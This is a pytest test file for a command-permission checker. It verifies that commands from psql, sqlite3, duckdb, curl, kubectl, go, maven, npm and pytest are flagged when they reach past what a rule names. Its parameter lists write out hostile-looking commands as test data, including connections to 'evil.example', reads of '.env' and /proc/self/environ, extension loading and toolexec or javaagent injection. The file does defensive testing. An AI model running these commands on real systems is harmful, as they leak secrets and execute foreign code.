"""How far commands of services and build tools reach: by options that lead elsewhere, other names, and what they load."""

from __future__ import annotations

import shlex

import pytest

from ringfence.app.command_profiles import command_profiles
from ringfence.core.commands.describing import Said, describe
from ringfence.core.model.local import LocalAct, Place, Undecided, Use
from ringfence.core.model.profile import Effect
from ringfence.core.permissions.commands import Names, names
from ringfence.core.shell.command import Command, Word

PROFILES = command_profiles()
PLACE = Place(cwd="/p", roots=("/p",), home="/home/me")
ENVIRONMENT = (Use.READ, "/proc/self/environ")


def said(text: str, *, stdin: str | None = None) -> Said:
    words = tuple(Word(text=one, raw=one) for one in shlex.split(text))
    return describe(Command(words=words, cwd="/p", raw=text, stdin=stdin), PROFILES, PLACE)


def act(text: str, *, stdin: str | None = None) -> LocalAct:
    return said(text, stdin=stdin).act


def uses(text: str) -> set[tuple[Use, str]]:
    return {(use.use, use.path) for use in act(text).paths}


def doubts(text: str, *, stdin: str | None = None) -> set[Undecided]:
    return {doubt.kind for doubt in act(text, stdin=stdin).doubts}


@pytest.mark.parametrize(
    ("text", "like"),
    [
        ("oc delete pod x", "kubectl delete pod x"),
        ("k get pods", "kubectl get pods"),
        ("tofu apply", "terraform apply"),
        ("terragrunt destroy", "terraform destroy"),
        ("podman run -v /:/x y", "docker run -v /:/x y"),
        ("nerdctl container rm x", "docker container rm x"),
        ("pip3 install x", "pip install x"),
    ],
)
def test_another_name_of_a_program_has_its_subcommands(text: str, like: str) -> None:
    assert (act(text).profile, act(text).scope) == (act(like).profile, act(like).scope)
    assert act(like).profile.effect is Effect.WRITE or "get" in like


@pytest.mark.parametrize("text", ["-1 -f -", "--file=-", "--file -", "-f /dev/stdin", ""])
def test_sql_on_the_input_is_read_however_it_is_asked_for(text: str) -> None:
    assert said(f"psql {text}", stdin="drop table items").sql == ("drop table items",)


BEYOND = [
    "psql -c 'create extension dblink'",
    "psql -c \"create function x() returns void language plpython3u as 'import os'\"",
    "psql -c \"alter system set archive_command = 'touch M'\"",
    "psql -c \"copy items to '/tmp/x'\"",
    "psql -c \"load 'x'\"",
    "psql -c \"select pg_file_write('x', 'y', false)\"",
    "psql -c '\\g x'",
    "psql -c '\\gset'",
    "psql -c '\\c x y evil.example'",
    "psql -c '\\connect postgres://evil.example/x'",
    "sqlite3 x.db \"select readfile('.env')\"",
    "sqlite3 x.db \"select writefile('x', 'y')\"",
    "sqlite3 x.db \"select load_extension('./x')\"",
    "sqlite3 x.db \"select edit('x', 'touch M')\"",
    "sqlite3 x.db \"attach 'y' as y\"",
    "sqlite3 x.db \"vacuum into 'y'\"",
    "sqlite3 x.db \"create virtual table t using csv(filename='.env')\"",
    "sqlite3 x.db '.excel'",
    "sqlite3 x.db '.parameter edit'",
    "sqlite3 file:x.db 'select 1'",
    "duckdb x.db \"select * from read_text('.env')\"",
    "duckdb -c \"select * from '.env'\"",
    "python -m sqlite3 x.db 'drop table items'",
    "kubectl get pods --kubeconfig x",
    "openssl dgst -engine ./x README.md",
    "emacs --batch --eval '(princ 1)'",
    "node --test-reporter=./x.js x.js",
    "kubectl get pods --server=http://evil.example",
    "npm test --node-opt='-r ./x.js'",
    "pnpm --config.script-shell=./x test",
    "go build -ldflags '-extld ./x' ./...",
    "go build --toolexec ./x ./...",
    "go vet --vettool=./x ./...",
    "mvn test -DargLine=-javaagent:x",
    "mvn compile -Dmaven.compiler.executable=./x",
    "python -m pty",
    "curl -w '%output{x}' http://localhost/",
    "curl --expand-url '{{x}}' http://localhost/",
    "curl -T '.[e]nv' http://localhost/",
    "curl 'file:///p/{.env}'",
]  # fmt: skip


@pytest.mark.parametrize("text", BEYOND)
def test_what_reaches_beyond_what_it_names_is_in_doubt(text: str) -> None:
    assert doubts(text)


@pytest.mark.parametrize(
    "text",
    [
        *("psql -c 'select 1'", "psql -c '\\dt'", "psql -c '\\c other'", "sqlite3 x.db 'select replace(a, 1, 2) from t'"),
        *("kubectl --context prod get pods", "npm test -- --watch", "go build -ldflags '-s -w' ./...", "mvn test -Dtest=X"),
        *("curl 'http://localhost/{a,b}'", "curl 'http://localhost/x?a[]=1'", "curl -w '%{http_code}' http://localhost/"),
    ],
)
def test_the_same_programs_at_their_work_are_not(text: str) -> None:
    assert not doubts(text)


WAYS = ["-x evil.example", "-sx evil.example", "--socks4a evil.example", "--connect-to ::evil.example:80",
        "--prox evil.example",
        "--resolve localhost:80:1.2.3.4", "--doh-url http://evil.example", "--unix-socket /run/x", "http://evil.example",
        "--url http://evil.example", "http://{localhost,evil.example}/"]  # fmt: skip


@pytest.mark.parametrize("way", WAYS)
def test_a_rule_that_names_a_host_speaks_for_no_other(way: str) -> None:
    pattern = "curl * http://localhost:80/*"
    assert names(pattern, act("curl -s http://localhost:80/x")) is Names.COMMAND
    assert names(pattern, act(f"curl {way} http://localhost:80/x")) is Names.NOTHING


TOUCHED = [
    ("docker compose config", (Use.READ, "/p/.env")),
    ("docker compose convert", (Use.READ, "/p/.env")),
    ("docker compose config --environment", ENVIRONMENT),
    ("make -p", ENVIRONMENT),
    ("npm run env", ENVIRONMENT),
    ("mvn help:system", ENVIRONMENT),
    ("mvn help:evaluate -Dexpression=env.X", ENVIRONMENT),
    ("ps aux e", ENVIRONMENT),
    ("ps -o pid,args e", ENVIRONMENT),
    ("rsync -f '. .env' a b", (Use.READ, "/p/.env")),
    ("rsync --filter='merge .env' a b", (Use.READ, "/p/.env")),
    ("rsync --partial-dir=x a b", (Use.WRITE, "/p/x")),
    ("openssl rand -writerand x/f 4", (Use.WRITE, "/p/x/f")),
    ("node --redirect-warnings=x/f -p 1", (Use.WRITE, "/p/x/f")),
    ("time -o x/f", (Use.WRITE, "/p/x/f")),
    ("curl --variable %TOKEN http://localhost/", ENVIRONMENT),
    ("curl -w @.env http://localhost/", (Use.READ, "/p/.env")),
    ("curl --url-query x@.env http://localhost/", (Use.READ, "/p/.env")),
    ("sqlite3 x/f 'create table y(z)'", (Use.WRITE, "/p/x/f")),
    ("sqlite3 x/f 'pragma user_version = 1'", (Use.WRITE, "/p/x/f")),
    ("terraform plan --out=x/f", (Use.WRITE, "/p/x/f")),
    ("go build --o=x/f ./...", (Use.WRITE, "/p/x/f")),
    ("go test -test.coverprofile=x/f ./...", (Use.WRITE, "/p/x/f")),
    ("pytest --log-file=x/f", (Use.WRITE, "/p/x/f")),
    ("pytest -o log_file=x/f", (Use.WRITE, "/p/x/f")),
    ("pytest --cov-report=xml:x/f", (Use.WRITE, "/p/x/f")),
    ("pytest --cov-report html:x", (Use.WRITE, "/p/x")),
    ("mvn -l x/f test", (Use.WRITE, "/p/x/f")),
    ("mvn dependency:tree -DoutputFile=x/f", (Use.WRITE, "/p/x/f")),
    ("./gradlew --project-cache-dir x build", (Use.WRITE, "/p/x")),
    ("kubectl get pods --profile-output=x/f", (Use.WRITE, "/p/x/f")),
    ("python -m json.tool --indent 2 a x/f", (Use.WRITE, "/p/x/f")),
    ("python -m zipfile -e a.zip x", (Use.WRITE, "/p/x")),
    ("python -m tarfile -e a.tar", (Use.WRITE, "/p")),
    ("python -m gzip x/f", (Use.WRITE, "/p/x/f.gz")),
    ("python -m gzip -d x/f.gz", (Use.WRITE, "/p/x/f")),
]  # fmt: skip


@pytest.mark.parametrize(("text", "use"), TOUCHED)
def test_what_it_reads_or_writes_besides_is_named(text: str, use: tuple[Use, str]) -> None:
    assert use in uses(text)


@pytest.mark.parametrize("text", ["docker compose config --quiet", "docker compose config --images", "make -s", "npm run lint"])
def test_what_shows_no_values_reads_none(text: str) -> None:
    assert not [one for one in uses(text) if one in (ENVIRONMENT, (Use.READ, "/p/.env"))]


@pytest.mark.parametrize("text", ["mvn help:evaluate -Dexpression=project.version", "ps -C node", "ps -ef", "ps aux"])
def test_what_tells_of_something_else_shows_no_variables(text: str) -> None:
    assert ENVIRONMENT not in uses(text)


def test_an_address_of_a_cluster_is_meant_however_it_is_encoded() -> None:
    assert "kubectl get secret" in act("kubectl get --raw /api/v1/%73ecrets").spellings


@pytest.mark.parametrize("task", [":warehouse:publish", "publishAllToX", "pub", "pATR", "uploadArchives"])
def test_a_task_that_publishes_is_one_however_it_is_written(task: str) -> None:
    one = act(f"./gradlew {task}")
    assert one.profile.outbound
    assert any(text.startswith("./gradlew publish") for text in one.spellings)


@pytest.mark.parametrize("name", ["pip", "pip._internal", "pip.__main__", "pip._internal.cli.main"])
def test_an_installer_is_one_by_whichever_of_its_modules(name: str) -> None:
    assert act(f"python -m {name} install x").profile.outbound
